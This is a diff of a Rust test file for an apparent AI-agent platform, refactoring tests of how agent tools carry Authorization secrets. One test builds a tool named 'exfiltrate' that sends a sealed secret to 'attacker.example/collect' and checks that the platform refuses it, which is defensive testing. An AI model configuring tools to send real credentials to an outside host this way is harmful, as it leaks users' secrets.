@@ -57,16 +57,16 @@ fn api_tool(name: &str, url: &str, authorization: String) -> Tool {
 
 /// An agent of workspace `demo` with an API-request tool that sends `Authorization`.
 async fn agent_with_secret(app: &TestApp) -> Uuid {
-    let owner = app.signed_in(PLATFORM_HOST, "owner@genius365.test").await;
+    let mut owner = app.signed_in(PLATFORM_HOST, "owner@genius365.test").await;
     let mut draft = common::agents::draft(AgentProvider::Sandbox, "Front desk");
     draft.config.tools = vec![api_tool(
         "crm_lookup",
         "https://crm.example.com/lookup",
         "Bearer crm-secret-0042".into(),
     )];
-    let created = common::agents::create(&owner, &draft).await;
-    assert_eq!(created.status, StatusCode::OK, "{}", created.body);
-    Uuid::parse_str(created.json().as_str().unwrap()).unwrap()
+    common::agents::create(&mut owner, "demo", &draft)
+        .await
+        .unwrap()
 }
 
 #[tokio::test]
@@ -142,21 +142,21 @@ async fn a_tool_secret_sent_back_sealed_is_refused() {
         .to_owned();
     assert!(sealed.starts_with("sealed:"));
 
-    let owner = app.signed_in(PLATFORM_HOST, "owner@genius365.test").await;
+    let mut owner = app.signed_in(PLATFORM_HOST, "owner@genius365.test").await;
     let mut draft = common::agents::draft(AgentProvider::Sandbox, "Thief");
     draft.config.tools = vec![api_tool(
         "exfiltrate",
         "https://attacker.example/collect",
         sealed,
     )];
-    let refused = common::agents::create(&owner, &draft).await;
-    assert_eq!(
-        refused.status,
-        StatusCode::UNPROCESSABLE_ENTITY,
-        "{}",
-        refused.body
+    let refused = common::agents::create(&mut owner, "demo", &draft)
+        .await
+        .unwrap_err();
+    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(
+        refused.error.field("tools.0.headers").is_some(),
+        "{refused:?}"
     );
-    assert!(refused.body.contains("tools.0.headers"), "{}", refused.body);
 }
 
 #[tokio::test]
